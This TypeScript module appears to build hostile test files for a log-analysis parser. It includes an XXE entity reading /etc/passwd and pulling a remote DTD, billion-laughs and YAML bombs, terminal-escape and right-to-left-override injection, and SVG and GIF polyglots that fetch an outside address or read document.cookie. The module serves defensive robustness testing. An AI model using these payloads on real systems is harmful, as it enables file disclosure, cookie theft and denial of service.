import type { HostileFile } from "./hostile-file";

const iisHead =
  "#Software: Microsoft Internet Information Services 10.0\r\n#Version: 1.0\r\n#Fields: date time s-ip cs-method cs-uri-stem cs-uri-query s-port cs-username c-ip cs(User-Agent) sc-status\r\n";
const iisRow = "2021-03-03 06:49:53 192.0.2.11 POST /owa/auth/x.js - 443 - 203.0.113.21 Mozilla/5.0 200\r\n";
const proxyHead =
  "#Software: Microsoft Exchange Server\r\n#Version: 15.02.0792.003\r\n#Log-type: HttpProxy Logs\r\n#Fields: DateTime,RequestId,UrlStem,AnchorMailbox,ClientIpAddress,HttpStatus\r\n";
const clixmlHead = '<Objs Version="1.1.0.1" xmlns="http://schemas.microsoft.com/powershell/2004/04">';
const nmapHead = '<?xml version="1.0"?>\n<!DOCTYPE nmaprun';

/** The file header of an event log (ELFFILE) and one chunk whose records and checksums are noise. */
function brokenEventLog(): Buffer {
  const header = Buffer.alloc(4096);
  header.write("ElfFile\0", "latin1");
  header.writeUInt32LE(128, 32);
  header.writeUInt16LE(1, 36);
  header.writeUInt16LE(3, 38);
  header.writeUInt16LE(4096, 40);
  header.writeUInt16LE(1, 42);
  const chunk = Buffer.alloc(65_536, 0xa5);
  chunk.write("ElfChnk\0", "latin1");
  chunk.writeUInt32LE(0x80, 40);
  chunk.writeUInt32LE(0xffffffff, 44);
  chunk.writeUInt32LE(0xfffffff0, 48);
  chunk.writeUInt32LE(0x00002a2a, 512);
  chunk.writeUInt32LE(0xffffffff, 516);
  return Buffer.concat([header, chunk, chunk.subarray(0, 700)]);
}

function billionLaughs(open: string, close: string): Buffer {
  const entities = Array.from(
    { length: 30 },
    (_, level) => `<!ENTITY l${level + 1} "${`&l${level};`.repeat(10)}">`,
  ).join("");
  return Buffer.from(`${open} [<!ENTITY l0 "lol">${entities}]>\n${close}&l30;`);
}

const text = (content: string) => () => Buffer.from(content);

/** Texts that were made to do harm, or that bad luck spoiled. */
export const hostileTexts: readonly HostileFile[] = [
  {
    about: "a log that is one long line",
    path: "one-line/u_ex210303.log",
    make: () => Buffer.concat([Buffer.from(iisHead), Buffer.alloc(8 * 1024 * 1024, "a")]),
  },
  {
    about: "a log full of NUL and of bytes that are no UTF-8",
    path: "nul/u_ex210303.log",
    make: () =>
      Buffer.concat([
        Buffer.from(iisHead),
        Buffer.from(iisRow.replaceAll("/owa", "/o\0wa")),
        Buffer.from([0xff, 0xfe, 0xc0, 0x80, 0xed, 0xa0, 0x80, 0xf5, 10]),
        Buffer.alloc(50_000),
        Buffer.from(iisRow),
      ]),
  },
  {
    about: "a log in UTF-16 with halves of characters",
    path: "halves/u_ex210303.log",
    make: () => Buffer.from(`\uFEFF${iisHead}${iisRow.replace("x.js", "\ud800x\udc00.js")}`, "utf16le"),
  },
  {
    about: "a log with escapes for terminals and marks that turn the writing around",
    path: "escapes/u_ex210303.log",
    make: text(iisHead + iisRow.replace("Mozilla/5.0", "\u001b]0;owned\u0007\u001b[2J\u202Egnp.exe\u2066")),
  },
  {
    about: "a CSV whose quoted field never ends",
    path: "quotes/HttpProxy_2021030300-1.LOG",
    make: text(`${proxyHead}2021-03-03T06:49:53.000Z,"${"line\n".repeat(60_000)}`),
  },
  {
    about: "a CSV with a million columns",
    path: "columns/HttpProxy_2021030300-1.LOG",
    make: text(
      `${proxyHead}2021-03-03T06:49:53.000Z${",x".repeat(1_000_000)}\n${proxyHead.replace("#Fields: ", `#Fields: ${"c,".repeat(1_000_000)}`)}`,
    ),
  },
  {
    about: "XML with a billion laughs",
    path: "laughs/scan.xml",
    make: () => billionLaughs(nmapHead, "<nmaprun scanner='nmap'>"),
  },
  {
    about: "XML that asks for a file of ours",
    path: "external/servers.xml",
    make: text(
      `<?xml version="1.0"?>\n<!DOCTYPE Objs [<!ENTITY x SYSTEM "file:///etc/passwd"><!ENTITY % p SYSTEM "http://203.0.113.7/x.dtd">%p;]>\n${clixmlHead}<Obj><S N="Name">&x;</S></Obj></Objs>`,
    ),
  },
  {
    about: "XML a million tags deep",
    path: "deep/servers.xml",
    make: text(clixmlHead + "<Obj><MS>".repeat(500_000)),
  },
  {
    about: "JSON a million lists deep",
    path: "deep/yara.json",
    make: text(`{"yara":{"matches":[${"[".repeat(1_000_000)}`),
  },
  { about: "an event log whose chunks are noise", path: "Security.evtx", make: brokenEventLog },
  {
    about: "a page that is also an image with a script, a PDF and a zip",
    path: "polyglot.svg",
    make: text(
      '%PDF-1.7\n<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>fetch("//203.0.113.7")</script></svg>\n<!--PK\u0003\u0004-->\n%%EOF',
    ),
  },
  {
    about: "an image whose comment is a page",
    path: "polyglot.gif",
    make: text("GIF89a/*<html><body onload=alert(document.cookie)>*/=1;"),
  },
  {
    about: "YAML that unfolds without end",
    path: "bomb.yml",
    make: text(
      `a: &a [x]\n${Array.from({ length: 30 }, (_, level) => `${String.fromCodePoint(98 + level)}: &${String.fromCodePoint(98 + level)} [${`*${String.fromCodePoint(97 + level)},`.repeat(10)}]`).join("\n")}`,
    ),
  },
  { about: "a file of nothing", path: "empty.log", make: () => Buffer.alloc(0) },
];
